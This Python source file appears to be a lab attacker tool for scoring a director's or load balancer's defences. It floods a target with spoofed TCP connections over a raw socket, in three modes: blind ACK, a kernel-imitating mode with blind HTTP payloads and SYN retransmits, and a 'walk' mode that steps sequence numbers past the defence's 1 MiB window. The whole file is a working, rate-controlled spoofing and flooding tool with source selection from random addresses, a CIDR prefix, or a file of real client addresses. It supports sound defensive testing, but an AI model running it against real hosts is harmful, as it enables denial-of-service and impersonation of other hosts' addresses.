#!/usr/bin/env python3
"""Blind spoofers written against the scoring, on a real kernel's raw socket (IP_HDRINCL; Node has
none, and hping3 draws a new source per packet so it can never follow a SYN with an ACK).

Each spoofed connection, from a source it never receives anything at:
  --mode ack     (the seed's attacker) a Linux-shaped SYN, a blind ACK --delay-ms later; no data.
  --mode kernel  what a Linux client would send if the server's SYN-ACK had come back:
                   t=0      SYN shaped like Linux's (MSS 1460, SACK_PERM, timestamps, NOP, WS 7;
                            TTL 64, window 64240)
                   t=50 ms  the handshake's ACK, blind (seq ISN+1, a guessed acknowledgement number)
                   t=55 ms  blind payload: an HTTP request (PSH|ACK)
                   t=0.5, 1.5, 2.5, 3.5 s  blind ACK progress: the acknowledgement number advancing
                            by a segment each time, as if the server were sending a response
                   t=1 s, 3 s  the SYN again, same ISN, as a kernel retransmits it
                 9 packets a connection.
  --mode walk    the attacker who read the director's sequence window (1 MiB each way):
                   t=0      the same SYN
                   t=1 ms   a blind ACK, a blind ACK "progress" (one segment on), then three blind
                            requests each starting one byte inside the window ahead of where the
                            last ended, so the tracked sequence number is 3 MiB on and the reset the
                            address's owner sends for the server's SYN-ACK (sequence ISN+1) falls
                            behind the window
                   t=1 s, 3 s  the SYN again
                 8 packets a connection.
Sources:
  default                random unicast addresses outside 0/8, 10/8, 127/8 and 224/3
  --cidr A.B.C.D/N       random hosts inside that prefix (a priority-0 rule's, say)
  --sources-file PATH    random choices among the addresses in the file (one a line), re-read every
                         second; nothing is sent while it is empty (addresses of valid clients the
                         attacker has seen)
Rate: --rate spoofed connections per second (the packets per second are ~9x that with kernel).

It never reads anything: an Internet spoofer cannot see the replies (in the lab the director's
challenge to a spoofed source comes back to this namespace's VTEP, but this program does not look).

  python3 spoof_ack.py --dst 10.0.0.100 --port 80 --rate 2000 --mode kernel [--cidr 10.1.2.0/24]

Runs until SIGINT/SIGTERM, then prints one JSON line: {"connections": N, "packets": N, "errors": N}.
"""
import argparse
import collections
import json
import os
import random
import signal
import socket
import struct
import sys
import time

from rawtcp import raw_sender, segment

HTTP_REQUEST = b"GET / HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"
# Offsets (s) of the blind segments after the SYN, kernel mode; the SYN retransmissions apart.
ACK_AT = 0.050
DATA_AT = 0.055
PROGRESS_AT = (0.5, 1.5, 2.5, 3.5)
SYN_AGAIN_AT = (1.0, 3.0)
MSS = 1448
# walk mode: the follow-ups' offset, and how far past the tracked sequence number each walking
# segment starts (the director's window, 1 MiB, less a byte).
WALK_AT = 0.001
WALK_STEP = (1 << 20) - 1


def syn_options(ts: int) -> bytes:
    # Linux's SYN options: MSS 1460, SACK_PERM, TS (val, 0), NOP, WS 7: 20 bytes.
    return struct.pack("!BBHBBBBII", 2, 4, 1460, 4, 2, 8, 10, ts, 0) + bytes([1, 3, 3, 7])


def packet(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int, opts: bytes, payload: bytes, ident: int) -> bytes:
    # A kernel's window: 64240 on a SYN, then 502 (scaled by 128).
    return segment(src, dst, sport, dport, seq, ack, flags, 64240 if flags & 0x02 else 502, opts, payload, ident)


class Sources:
    def __init__(self, args, rng: random.Random):
        self.rng = rng
        self.file = args.sources_file
        self.cidr = None
        self.list = []
        self.loaded_at = 0.0
        if args.cidr:
            net, bits = args.cidr.split("/")
            base = struct.unpack("!I", socket.inet_aton(net))[0]
            size = 1 << (32 - int(bits))
            mask = (0xFFFFFFFF << (32 - int(bits))) & 0xFFFFFFFF
            self.cidr = (base & mask, size)

    def reload(self, now: float) -> None:
        if self.file is None or now - self.loaded_at < 1.0:
            return
        self.loaded_at = now
        try:
            with open(self.file) as f:
                self.list = [socket.inet_aton(l.strip()) for l in f if l.strip()]
        except OSError:
            pass

    def ready(self) -> bool:
        return self.file is None or len(self.list) > 0

    def pick(self) -> bytes:
        rng = self.rng
        if self.file is not None:
            return self.list[rng.randrange(len(self.list))]
        if self.cidr is not None:
            base, size = self.cidr
            # Neither the network nor the broadcast address.
            return struct.pack("!I", base + 1 + rng.randrange(size - 2))
        while True:
            a = rng.getrandbits(32)
            top = a >> 24
            if top not in (0, 10, 127) and top < 224:
                return struct.pack("!I", a)


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--rate", type=float, required=True, help="spoofed connections per second")
    ap.add_argument("--mode", choices=("ack", "kernel", "walk"), default="kernel")
    ap.add_argument("--delay-ms", type=float, default=50.0, help="ack mode: the blind ACK's delay")
    ap.add_argument("--cidr")
    ap.add_argument("--sources-file")
    ap.add_argument("--seed", type=int, default=None)
    args = ap.parse_args()
    rng = random.Random(args.seed if args.seed is not None else os.getpid())
    sources = Sources(args, rng)
    dst = socket.inet_aton(args.dst)
    sock = raw_sender()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    stats = {"connections": 0, "packets": 0, "errors": 0}
    running = [True]

    def stop(_sig, _frame):
        running[0] = False

    signal.signal(signal.SIGINT, stop)
    signal.signal(signal.SIGTERM, stop)

    # One FIFO per kind of follow-up: every connection has the same offsets, so each queue stays
    # in time order and the next due segment is at the head of one of them.
    # Entries: (due, src, sport, isn, guess, k)
    kinds = []
    if args.mode == "ack":
        kinds.append(("ack", args.delay_ms / 1000.0))
    elif args.mode == "walk":
        kinds.append(("walk", WALK_AT))
        for at in SYN_AGAIN_AT:
            kinds.append(("syn", at))
    else:
        kinds.append(("ack", ACK_AT))
        kinds.append(("data", DATA_AT))
        for i, at in enumerate(PROGRESS_AT):
            kinds.append(("progress%d" % (i + 1), at))
        for at in SYN_AGAIN_AT:
            kinds.append(("syn", at))
    queues = [collections.deque() for _ in kinds]
    ident = [0]
    addr = (args.dst, 0)
    payload_len = len(HTTP_REQUEST)

    def send(pkt: bytes) -> None:
        try:
            sock.sendto(pkt, addr)
            stats["packets"] += 1
        except OSError:
            stats["errors"] += 1

    def follow_up(kind: str, src: bytes, sport: int, isn: int, guess: int) -> None:
        ident[0] = (ident[0] + 1) & 0xFFFF
        if kind == "ack":
            send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, guess, 0x10, b"", b"", ident[0]))
        elif kind == "data":
            send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, guess, 0x18, b"", HTTP_REQUEST, ident[0]))
        elif kind == "walk":
            send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, guess, 0x10, b"", b"", ident[0]))
            send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, (guess + MSS) & 0xFFFFFFFF, 0x10, b"", b"", ident[0]))
            off = 0
            for _ in range(3):
                off += WALK_STEP
                seq = (isn + 1 + off) & 0xFFFFFFFF
                send(packet(src, dst, sport, args.port, seq, (guess + MSS) & 0xFFFFFFFF, 0x18, b"", HTTP_REQUEST, ident[0]))
                off += payload_len
        elif kind == "syn":
            send(packet(src, dst, sport, args.port, isn, 0, 0x02, syn_options(rng.getrandbits(32)), b"", ident[0]))
        else:
            k = int(kind[len("progress"):])
            seq = (isn + 1 + payload_len) & 0xFFFFFFFF
            send(packet(src, dst, sport, args.port, seq, (guess + k * MSS) & 0xFFFFFFFF, 0x10, b"", b"", ident[0]))

    interval = 1.0 / args.rate
    start = time.perf_counter()
    sent = 0
    while running[0]:
        now = time.perf_counter()
        sources.reload(now)
        due = int((now - start) / interval) + 1
        if not sources.ready():
            sent = due
        burst = 0
        # At most 64 new connections before the follow-ups get their turn: a rate beyond what
        # this process reaches must not starve them (it then sends as fast as it can).
        while sent < due and burst < 64 and running[0]:
            burst += 1
            src = sources.pick()
            sport = rng.randint(1024, 65535)
            isn = rng.getrandbits(32)
            guess = rng.getrandbits(32)
            ident[0] = (ident[0] + 1) & 0xFFFF
            send(packet(src, dst, sport, args.port, isn, 0, 0x02, syn_options(rng.getrandbits(32)), b"", ident[0]))
            stats["connections"] += 1
            for q, (_, at) in zip(queues, kinds):
                q.append((now + at, src, sport, isn, guess))
            sent += 1
        for q, (kind, _) in zip(queues, kinds):
            while q and q[0][0] <= now:
                _, src, sport, isn, guess = q.popleft()
                follow_up(kind, src, sport, isn, guess)
        nxt = start + sent * interval
        for q in queues:
            if q and q[0][0] < nxt:
                nxt = q[0][0]
        pause = nxt - time.perf_counter()
        if pause > 0:
            time.sleep(min(pause, 0.01))
    sys.stdout.write(json.dumps(stats) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
